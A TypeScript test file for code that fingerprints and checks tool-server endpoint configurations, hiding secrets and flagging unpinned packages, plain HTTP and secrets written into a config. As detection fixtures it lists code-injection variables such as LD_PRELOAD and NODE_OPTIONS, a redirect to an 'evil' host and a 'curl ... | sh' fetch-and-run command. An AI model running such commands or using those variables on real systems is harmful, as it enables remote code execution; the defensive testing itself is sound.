import { describe, expect, it } from 'vitest'
import { checkEndpoint } from './check-endpoint.ts'
import { EndpointConfigError, type EndpointFacts, fingerprintEndpoint } from './endpoint.ts'
import { placeholderText } from './substitutions.ts'

const reference = placeholderText
const of = (config: object, facts?: EndpointFacts) => fingerprintEndpoint(config, facts).fingerprint
const base = {
  command: 'node',
  args: ['server.js', '--port', '1'],
  cwd: '.',
  env: { TOKEN: reference('TOKEN') },
}

describe('fingerprintEndpoint', () => {
  it('changes with command, arguments, folder and names of the environment', () => {
    const variants = [
      base,
      { ...base, command: 'deno' },
      { ...base, args: ['server.js', '--port', '2'] },
      { ...base, args: ['--port', 'server.js', '1'] },
      { ...base, cwd: '..' },
      { ...base, env: { TOKEN: reference('TOKEN'), DEBUG: '1' } },
      { ...base, env: {} },
      { ...base, env: { TOKEN: null } },
      { ...base, env: { PATH: null } },
      { ...base, env: { PATH: 'null' } },
    ]
    expect(new Set(variants.map((config) => of(config))).size).toBe(variants.length)
  })

  it('does not change with the values of the environment, unless they choose which code runs', () => {
    expect(of({ ...base, env: { TOKEN: 'other' } })).toBe(of(base))
    for (const name of [
      'PATH',
      'NODE_OPTIONS',
      'LD_PRELOAD',
      'PYTHONPATH',
      'npm_config_registry',
      'DYLD_INSERT_LIBRARIES',
      'BASH_ENV',
      'ENV',
      'JAVA_TOOL_OPTIONS',
      '_JAVA_OPTIONS',
      'JDK_JAVA_OPTIONS',
      'CLASSPATH',
      'UV_INDEX_URL',
      'UV_PYTHON',
      'PIP_INDEX_URL',
      'DOTNET_STARTUP_HOOKS',
      'CORECLR_PROFILER_PATH',
      'PERL5LIB',
      'PERL5OPT',
      'RUBYOPT',
      'RUBYLIB',
      'GEM_PATH',
      'BUNDLE_GEMFILE',
      'BUN_CONFIG_REGISTRY',
      'DENO_DIR',
    ]) {
      expect(of({ ...base, env: { [name]: 'a' } }), name).not.toBe(of({ ...base, env: { [name]: 'b' } }))
    }
  })

  it('does not change with members that start nothing, with their order, or with another version of this file', () => {
    expect(of({ env: base.env, cwd: '.', disabled: true, args: base.args, command: 'node' })).toBe(of(base))
    expect(of(base)).toBe('ecfdf111facc27b84f3bd126272edbd50607e4758abe7de69a5cdee1ec45ef20')
  })

  it('changes with the URL, the kind of authentication, header names, and a redirect to another origin', () => {
    const remote = { url: 'https://shop.example/mcp', headers: { Authorization: `Bearer ${reference('T')}` } }
    const variants: readonly (readonly [object, EndpointFacts?])[] = [
      [remote],
      [{ ...remote, url: 'https://shop.example/mcp2' }],
      [{ ...remote, headers: {} }],
      [{ ...remote, headers: { Authorization: 'x', 'X-Team': 'a' } }],
      [{ ...remote, type: 'sse' }],
      [remote, { authentication: 'oauth' }],
      [remote, { redirectedTo: 'https://evil.example/mcp' }],
      [remote, { environment: { GITHUB_TOOLSETS: true } }],
      [remote, { environment: { GITHUB_TOOLSETS: false } }],
    ]
    expect(new Set(variants.map(([config, facts]) => of(config, facts))).size).toBe(variants.length)
    expect(of(remote, { redirectedTo: 'https://SHOP.example/other/path' })).toBe(of(remote))
    expect(of({ ...remote, headers: { authorization: 'Bearer another' } })).toBe(of(remote))
  })

  it('changes with the scheme of an Authorization header, not with what follows it', () => {
    const sent = (value: string, name = 'Authorization') =>
      of({ url: 'https://a.example', headers: { [name]: value } })
    const [token, other] = [reference('T'), reference('OTHER')]
    const kinds = [`Bearer ${token}`, `Basic ${token}`, `token ${token}`, `Made-Up ${token}`, token]
    expect(new Set(kinds.map((value) => sent(value))).size).toBe(kinds.length)
    for (const same of [`bearer ${token}`, `Bearer ${other}`, 'BEARER abc', ' Bearer  a b'])
      expect(sent(same, 'authorization'), same).toBe(sent(`Bearer ${token}`))
    const secret = { url: 'https://a.example', headers: { Authorization: 'hunter2 and more' } }
    expect(JSON.stringify(fingerprintEndpoint(secret))).not.toContain('hunter2')
    expect(fingerprintEndpoint({ url: 'https://a.example' }).authentication).toBe('none')
  })

  it('shows no secret in the values of variables that count', () => {
    const env = {
      UV_INDEX_URL: 'https://ana:hunter2@pypi.example/simple',
      PIP_EXTRA_INDEX_URL: 'https://pypi.example/?token=hunter2',
      UV_PUBLISH_TOKEN: 'hunter2',
      GEM_HOST_API_KEY: 'hunter2',
      DENO_AUTH_TOKENS: 'hunter2@deno.example',
      'npm_config_//registry.example/:_authToken': 'hunter2',
      npm_config__auth: 'hunter2',
      PIP_INDEX_URL: `https://ana:${reference('P')}@pypi.example/`,
    }
    const shown = fingerprintEndpoint({ command: 'uvx', env })
    expect(JSON.stringify(shown)).not.toContain('hunter2')
    expect(shown.code).toMatchObject({
      UV_INDEX_URL: 'https://ana:<redacted>@pypi.example/simple',
      PIP_INDEX_URL: env.PIP_INDEX_URL,
    })
  })

  it('is the same wherever the folder of the config stands', () => {
    const at = (folder: string) =>
      of(
        { command: `${folder}/run.sh`, args: [`${folder}/docs`, folder], cwd: folder },
        { configFolder: folder },
      )
    expect(at('/home/ana/work')).toBe(at('/srv/ci/build-7/'.replace(/\/$/, '')))
    expect(of({ command: 'x', args: ['/home/ana/workshop'] }, { configFolder: '/home/ana/work' })).toBe(
      of({ command: 'x', args: ['/home/ana/workshop'] }),
    )
  })

  it('never holds a secret', () => {
    const secrets = ['hunter2', 'sk-abcdefghijkl', 'ghp_0123456789abcdef', 'c2VjcmV0']
    const shown = [
      fingerprintEndpoint({
        command: 'x',
        args: [
          '--token',
          'hunter2',
          '--api-key=hunter2',
          'sk-abcdefghijkl',
          'ghp_0123456789abcdef',
          'PASSWORD=hunter2',
          'postgres://u:hunter2@db/x',
          '--header',
          'Authorization: Bearer c2VjcmV0',
          '-c',
          'MY_TOKEN=hunter2 run --password hunter2 && curl -H "X-Api-Key: hunter2"',
        ],
        env: { TOKEN: 'hunter2' },
      }),
      fingerprintEndpoint({
        url: 'https://u:hunter2@x.example/mcp?api_key=hunter2&q=1#t',
        headers: { 'X-Key': 'hunter2' },
      }),
    ].map((one) => JSON.stringify(one))
    for (const text of shown) for (const secret of secrets) expect(text).not.toContain(secret)
    expect(shown[1]).toContain('q=1')
    expect(fingerprintEndpoint({ command: 'x', args: ['--token', reference('TOKEN')] }).args).toEqual([
      '--token',
      reference('TOKEN'),
    ])
  })

  it('refuses an entry that names nothing to start or reach', () => {
    expect(() => fingerprintEndpoint({ args: [] })).toThrow(EndpointConfigError)
  })
})

describe('checkEndpoint', () => {
  it.each([
    ['npx', ['-y', 'some-server'], ['unpinned-package some-server']],
    ['npx', ['-y', 'some-server@latest'], ['unpinned-package some-server@latest']],
    ['npx', ['-y', 'some-server@^1.2.3'], ['unpinned-package some-server@^1.2.3']],
    ['npx', ['-y', '@x/some-server@1.2.3', '--flag'], []],
    ['npx', ['-y', '--package', '@x/y', 'bin'], ['unpinned-package @x/y']],
    ['npx', ['-y', '--package=@x/y@1.0.0', 'bin'], []],
    ['C:\\node\\npx.cmd', ['some-server'], ['unpinned-package some-server']],
    ['pnpm', ['dlx', 'some-server'], ['unpinned-package some-server']],
    ['pnpm', ['run', 'server'], []],
    ['uvx', ['mcp-server-git'], ['unpinned-package mcp-server-git']],
    ['uvx', ['--from', 'git+https://x.example/y', 'z'], ['unpinned-package git+https://x.example/y']],
    ['uvx', ['mcp-server-git==2025.1.1'], []],
    ['uv', ['tool', 'run', 'mcp-server-git@1.0'], []],
    ['docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/git'], ['unpinned-package mcp/git']],
    ['docker', ['run', '-i', `mcp/git@sha256:${'a'.repeat(64)}`], []],
    ['sh', ['-c', 'curl https://x.example/i.sh | sh'], ['remote-code sh']],
    ['node', ['server.js'], []],
  ])('%s %j', (command, args, expected) => {
    expect(checkEndpoint({ command, args }).map(({ code, subject }) => `${code} ${subject}`)).toEqual(
      expected,
    )
  })

  it('reports plain HTTP to another machine, and secrets that are written out', () => {
    const codes = (config: object) => checkEndpoint(config).map(({ code, pointer }) => `${code} ${pointer}`)
    expect(codes({ url: 'http://shop.example/mcp' })).toEqual(['plain-http /url'])
    expect(codes({ url: 'http://localhost:3000/mcp' })).toEqual([])
    expect(codes({ url: 'http://localhost.evil.example/' })).toEqual(['plain-http /url'])
    expect(
      codes({
        url: 'https://x.example',
        headers: { Authorization: 'Bearer abc', 'X-Api-Key': reference('KEY') },
      }),
    ).toEqual(['secret-in-config /headers/Authorization'])
    expect(codes({ command: 'x', env: { GITHUB_TOKEN: 'ghp_x', DEBUG: '1' } })).toEqual([
      'secret-in-config /env/GITHUB_TOKEN',
    ])
  })
})
